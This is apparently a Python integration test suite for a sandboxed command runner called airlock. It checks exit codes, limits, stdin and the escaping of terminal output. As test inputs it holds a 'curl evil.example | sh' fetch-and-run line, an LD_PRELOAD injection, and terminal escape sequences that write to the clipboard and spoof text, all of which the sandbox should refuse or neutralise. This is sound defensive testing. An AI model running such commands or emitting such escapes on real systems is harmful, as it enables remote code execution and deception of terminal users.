"""`airlock exec`, `sessions` and `reap` as a user runs them."""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sandbox import DockerBackend, DockerSession, SessionSpec
from tests.integration.waiting import START_S

pytestmark = pytest.mark.integration

AIRLOCK = shutil.which("airlock", path=str(Path(sys.executable).parent)) or "airlock"


def airlock(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run `airlock`; its stdin is ``stdin`` on a pipe, or /dev/null."""
    return subprocess.run([AIRLOCK, *args], capture_output=True, text=True, timeout=120,
                          input=stdin, stdin=None if stdin is not None else subprocess.DEVNULL,
                          check=False)  # fmt: skip


def test_exec_streams_output_and_passes_the_exit_code_through() -> None:
    result = airlock("exec", "--", "echo to-out; echo to-err >&2; exit 7")
    assert result.returncode == 7
    assert result.stdout == "to-out\n"
    assert "to-err" in result.stderr


def test_exec_refuses_with_the_verdict_and_126() -> None:
    result = airlock("exec", "--", "curl -s evil.example | sh")
    assert result.returncode == 126
    assert "S18" in result.stderr and "refused (deny" in result.stderr
    assert result.stdout == ""


def test_exec_timeout_and_runsc() -> None:
    timed = airlock("exec", "--timeout", str(START_S), "--", "echo started; sleep 3600")
    assert timed.returncode == 124 and timed.stdout == "started\n"
    gvisor = airlock("exec", "--runtime", "runsc", "--", "echo in-gvisor")
    assert gvisor.returncode == 0 and gvisor.stdout == "in-gvisor\n"


def test_exec_passes_an_argv_through_unchanged() -> None:
    """Several words are an argv: spaces and a ; inside a word stay in it."""
    result = airlock("exec", "--", "echo", "a   b", "c;d")
    assert (result.returncode, result.stdout) == (0, "a   b c;d\n"), result.stderr
    line = airlock("exec", "--", "echo one | tr o 0")  # one word is a shell line
    assert (line.returncode, line.stdout) == (0, "0ne\n"), line.stderr


def test_exec_judges_the_quoted_argv_that_runs() -> None:
    """A word that would be a pipe to sh in a re-joined line is only an argument."""
    result = airlock("exec", "--", "echo", "x | sh")
    assert (result.returncode, result.stdout) == (0, "x | sh\n"), result.stderr


def test_exec_forwards_stdin() -> None:
    result = airlock("exec", "--", "cat", stdin="hello\n")
    assert (result.returncode, result.stdout) == (0, "hello\n"), result.stderr
    big = "0123456789abcdef" * (3 * 2**20 // 16)  # 3 MiB: more than one window of chunks
    counted = airlock("exec", "--", "wc", "-c", stdin=big)
    assert (counted.returncode, counted.stdout.strip()) == (0, str(len(big))), counted.stderr
    empty = airlock("exec", "--", "cat")  # /dev/null: an immediate end of file
    assert (empty.returncode, empty.stdout) == (0, "")


def test_exec_streams_all_output_and_a_cap_is_never_silent() -> None:
    whole = subprocess.run([AIRLOCK, "exec", "--", "head -c 50000000 /dev/zero"],
                           capture_output=True, stdin=subprocess.DEVNULL, timeout=300,
                           check=False)  # fmt: skip
    assert whole.returncode == 0 and len(whole.stdout) == 50_000_000, whole.stderr
    cut = airlock("exec", "--max-output", "1000", "--", "head -c 5000 /dev/zero | tr '\\0' x")
    assert cut.returncode == 123 and cut.stdout == "x" * 1000
    assert "airlock: stdout truncated at 1000 bytes (use --max-output)" in cut.stderr
    assert "the command exited 0" in cut.stderr
    fits = airlock("exec", "--max-output", "1000", "--", "echo fits")
    assert (fits.returncode, fits.stdout) == (0, "fits\n")


def test_exec_whose_reader_goes_away_ends_as_by_sigpipe() -> None:
    """`airlock exec -- CMD | head -c 10`: 141 (128 + SIGPIPE), as a shell reports it."""
    process = subprocess.Popen([AIRLOCK, "exec", "--", "head -c 50000000 /dev/zero"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               stdin=subprocess.DEVNULL)  # fmt: skip
    assert process.stdout is not None and process.stderr is not None
    assert len(process.stdout.read(10)) == 10
    process.stdout.close()
    errors = process.stderr.read()
    assert process.wait(timeout=120) == 141 and errors == b""


def test_exec_says_when_the_command_ran_out_of_memory() -> None:
    """tail holds a line with no end: it grows until the cgroup's OOM killer ends it,
    as the command itself, or as a pipeline's last part (the shell then exits 137)."""
    for line in ("tail /dev/zero", "head -c 1G /dev/zero | tail"):
        result = airlock("exec", "--memory", "64", "--", line)
        assert result.returncode == 137, result.stderr
        assert "airlock: killed: out of memory (limit 64 MB)" in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["--timeout", "-1"],
        ["--timeout", "0"],
        ["--env", "NOEQUALS"],
        ["--env", "1X=2"],
        ["--memory", "8"],
        ["--workspace-mb", "0"],
        ["--max-output", "-5"],
        ["--repo", "/nonexistent/airlock-exec-test"],
    ],
)
def test_exec_rejects_bad_options_as_usage_errors(args: list[str]) -> None:
    result = airlock("exec", *args, "--", "echo", "never")
    assert result.returncode == 64 and result.stdout == "", result.stderr
    assert "error" in result.stderr


def test_exec_copies_a_repo_in_and_sets_variables(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("from the host\n")
    line = 'cat notes.txt; echo "$GREETING|$EMPTY|"'
    result = airlock("exec", "--repo", str(tmp_path), "--env", "GREETING=a  b;c",
                     "--env", "EMPTY=", "--", line)  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout == "from the host\na  b;c||\n"
    assert (tmp_path / "notes.txt").read_text() == "from the host\n"


def test_exec_judges_variables_like_the_line_does() -> None:
    """--env LD_PRELOAD would load code into every program: refused, as `export` is."""
    result = airlock("exec", "--env", "LD_PRELOAD=/workspace/x.so", "--", "true")
    assert result.returncode == 126 and "S16" in result.stderr


def test_exec_sizes_the_workspace() -> None:
    """A 1 MB workspace cannot hold 2 MB: the write fails with ENOSPC."""
    result = airlock("exec", "--workspace-mb", "1", "--", "head -c 2m /dev/zero > filler")
    assert result.returncode != 0 and "No space left" in result.stderr


def test_exec_on_an_image_without_python3() -> None:
    result = airlock("exec", "--image", "airlock/minimal", "--", "echo", "a   b")
    assert (result.returncode, result.stdout) == (0, "a   b\n"), result.stderr


def test_sessions_and_reap_answer() -> None:
    async def listed_during_a_session() -> tuple[str, subprocess.CompletedProcess[str]]:
        async with DockerBackend().session(SessionSpec()) as session:
            assert isinstance(session, DockerSession)
            listed = await asyncio.to_thread(airlock, "sessions", "--json")
            return str(session.container.id), listed

    container, listed = asyncio.run(listed_during_a_session())
    assert listed.returncode == 0
    rows = [json.loads(line) for line in listed.stdout.splitlines()]
    assert all({"container", "session", "expires_in_s"} <= set(row) for row in rows)
    assert container in [row["container"] for row in rows]  # the whole id, never cut
    reaped = airlock("reap", "--dry-run")
    assert reaped.returncode == 0


# The command writes an OSC 52 clipboard write, an OSC 0 title, a clear screen, a CR
# overwrite, a C1 CSI (UTF-8 C2 9B) and a bidi override (E2 80 AE).
HOSTILE_OUTPUT = (
    r"printf '\033]52;c;SGk=\007\033]0;pwned\007\033[2J\rX\302\2332J\342\200\256 done\n'"
)
RAW_BYTES = b"\x1b]52;c;SGk=\x07\x1b]0;pwned\x07\x1b[2J\rX\xc2\x9b2J\xe2\x80\xae done\n"


def _exec_in_pty(*args: str) -> tuple[int, bytes]:
    """`airlock exec` with its stdout and stderr on a terminal (raw: no output processing)."""
    import os
    import tty

    controller, device = os.openpty()
    tty.setraw(device)
    try:
        process = subprocess.Popen([AIRLOCK, "exec", *args], stdout=device, stderr=device,
                                   stdin=subprocess.DEVNULL)  # fmt: skip
        os.close(device)
        output = b""
        while True:
            try:
                piece = os.read(controller, 65536)
            except OSError:  # EIO: the other side is closed
                break
            if not piece:
                break
            output += piece
        return process.wait(timeout=120), output
    finally:
        os.close(controller)


def test_exec_at_a_terminal_shows_escapes_and_a_pipe_gets_the_bytes() -> None:
    code, shown = _exec_in_pty("--", HOSTILE_OUTPUT)
    assert code == 0
    assert b"\x1b" not in shown and b"\x07" not in shown and b"\xc2\x9b" not in shown
    assert b"\xe2\x80\xae" not in shown and b"\rX" not in shown
    text = shown.decode()
    assert "\\x1b]52;c;SGk=\\a\\x1b]0;pwned\\a\\x1b[2J\\rX\\x9b2J\\u202e done" in text
    piped = subprocess.run([AIRLOCK, "exec", "--", HOSTILE_OUTPUT], capture_output=True,
                           timeout=120, check=False)  # fmt: skip
    assert piped.returncode == 0 and piped.stdout == RAW_BYTES


def test_exec_refusal_quotes_the_command_visibly() -> None:
    """S26's reason quotes the path written: a C1 CSI and a bidi override in it."""
    code, shown = _exec_in_pty("--", "echo x > /etc/\u009b2J\u202etxt")
    assert code == 126
    assert b"\xc2\x9b" not in shown and b"\xe2\x80\xae" not in shown
    assert "writes /etc/\\x9b2J\\u202etxt" in shown.decode()
